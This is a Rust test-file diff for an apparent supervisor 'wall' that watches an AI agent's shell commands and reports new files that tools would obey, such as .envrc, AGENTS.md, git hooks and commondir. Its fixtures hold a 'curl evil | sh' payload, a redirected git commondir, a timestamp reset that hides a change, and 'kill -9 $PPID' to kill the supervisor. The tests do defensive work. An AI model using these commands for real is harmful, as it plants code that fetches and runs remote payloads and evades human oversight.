@@ -3,12 +3,17 @@
 use std::fs;
 use std::process::Command;
 
+use ml_intern_wall::Exit;
+
 use crate::roles::Test;
 use crate::session::{Session, Variant, fails, ok};
 
 pub(crate) const TESTS: &[Test] = &[
     ("what_is_sealed_is_not_changed", what_is_there),
-    ("what_would_be_sealed_is_taken_out", what_is_not_there),
+    ("what_would_be_sealed_is_named", what_is_not_there),
+    ("odd_names_and_many_switch_nothing_off", odd_names),
+    ("what_others_replace_is_told", replaced),
+    ("what_git_would_obey_is_named", obeyed),
     ("repositories_that_appear_are_named", repositories),
     ("what_git_brings_stays", tracked),
 ];
@@ -73,22 +78,69 @@ fn what_is_there(variant: &Variant) {
 
 fn what_is_not_there(variant: &Variant) {
     let session = Session::new(variant);
+    let named =
+        |exit: &Exit, name: &str| exit.notes.iter().any(|note| note.starts_with(&format!("`{name}` is new")));
     let made = session
         .sh("echo 'curl evil | sh' > .envrc; mkdir -p deep; echo x > deep/AGENTS.md; echo y > fine.md");
-    assert_eq!((made.wall_refusals, made.notes.len()), (1, 2), "{made:?}");
-    assert!(!session.work().join(".envrc").exists() && session.work().join("fine.md").exists());
-    assert!(made.notes.iter().any(|note| note.contains("`.envrc` out of the workspace")), "{made:?}");
-    assert_eq!(ok(&session.sh("cat $TMPDIR/taken-out-*-.envrc")), "curl evil | sh");
-    // By a link, nothing of this machine's is moved or read.
-    let target = session.root.join("target");
-    fs::write(&target, "mine").unwrap();
-    session.sh(&format!("ln -s {} AGENTS.md", target.display()));
-    assert_eq!(fs::read_to_string(&target).unwrap(), "mine");
-    assert!(session.work().join("AGENTS.md").symlink_metadata().is_err());
-    // Nothing is left behind by that.
-    let left: Vec<_> =
-        fs::read_dir(session.work()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
-    assert_eq!(left.len(), 2, "{left:?}");
+    assert!(named(&made, ".envrc") && named(&made, "deep/AGENTS.md") && made.notes.len() == 2, "{made:?}");
+    // It is the person's to remove: what appeared may be theirs.
+    assert!(session.work().join(".envrc").exists());
+    assert_eq!(session.sh("true").notes, Vec::<String>::new());
+    // Whoever sets a folder's time back is seen all the same.
+    let hidden = session.python(
+        "import os; s = os.stat('.'); open('AGENTS.md', 'w').close(); os.utime('.', ns=(s.st_atime_ns, s.st_mtime_ns))",
+    );
+    assert!(named(&hidden, "AGENTS.md"), "{hidden:?}");
+    // And who did it between two commands, with the end of the supervisor.
+    session.sh("(sleep 0.3; mkdir late; echo x > late/.envrc; kill -9 $PPID 2>/dev/null) & true");
+    std::thread::sleep(std::time::Duration::from_millis(600));
+    let after = session.sh("true");
+    assert!(named(&after, "late/.envrc"), "{after:?}");
+    // A workspace that becomes a repository without a folder for it.
+    let bare = session.sh("mkdir objects refs && echo ref: refs/heads/main > HEAD && echo '[core]' > config");
+    assert!(named(&bare, "."), "{bare:?}");
+}
+
+fn odd_names(variant: &Variant) {
+    let session = repository(variant);
+    let many = "for i in $(seq 600); do : > .env.$i; done; touch \"$(printf '.env\\377')\"; mkdir \"$(printf 'caf\\351')\"; \
+                touch \"$(printf 'caf\\351')/AGENTS.md\"; mkdir -p .vscode/objects .vscode/refs && cp .git/HEAD .vscode/";
+    ok(&session.sh(many));
+    session.sh("kill -9 $PPID");
+    let next = session.sh("echo still works");
+    assert_eq!(ok(&next), "still works");
+    if variant.mounts {
+        assert!(next.notes.iter().any(|note| note.contains("are not read-only for commands")), "{next:?}");
+        fails(&session.sh("echo x >> .git/config"));
+        fails(&session.sh("echo x > .vscode/tasks.json"));
+    }
+}
+
+fn replaced(variant: &Variant) {
+    let session = repository(variant);
+    ok(&session.sh("true"));
+    // As git, editors and the `write` tool change files, outside the wall.
+    let work = session.work();
+    fs::write(work.join("new"), "by a person\n").unwrap();
+    fs::rename(work.join("new"), work.join("AGENTS.md")).unwrap();
+    let told = session.sh("cat AGENTS.md");
+    assert_eq!(ok(&told), "by a person");
+    let says = told.notes.iter().any(|note| note.starts_with("`AGENTS.md` is another file"));
+    assert_eq!(says, variant.mounts, "{told:?}");
+    assert_eq!(session.sh("true").notes, Vec::<String>::new());
+}
+
+fn obeyed(variant: &Variant) {
+    let session = repository(variant);
+    ok(&session.sh("git init -q --template= other"));
+    let named = session
+        .sh("echo ../evil > .git/commondir; mkdir other/.git/hooks && echo x > other/.git/hooks/pre-commit");
+    for name in [".git/commondir", "other/.git/hooks"] {
+        assert!(
+            named.notes.iter().any(|note| note.starts_with(&format!("`{name}` is new"))),
+            "{name}: {named:?}"
+        );
+    }
 }
 
 fn repositories(variant: &Variant) {
@@ -98,7 +150,7 @@ fn repositories(variant: &Variant) {
     ok(&ran);
     for name in ["inner/.git", "mirror", "a/b/c/.git"] {
         assert!(
-            ran.notes.iter().any(|note| note.starts_with(&format!("`{name}` appeared"))),
+            ran.notes.iter().any(|note| note.starts_with(&format!("`{name}` is new"))),
             "{name}: {ran:?}"
         );
     }
@@ -122,5 +174,5 @@ fn tracked(variant: &Variant) {
     ));
     ok(&brought);
     assert!(session.work().join("docs/AGENTS.md").exists(), "{brought:?}");
-    assert!(brought.notes[0].starts_with("`docs/AGENTS.md` appeared"), "{brought:?}");
+    assert!(brought.notes[0].starts_with("`docs/AGENTS.md` is new"), "{brought:?}");
 }
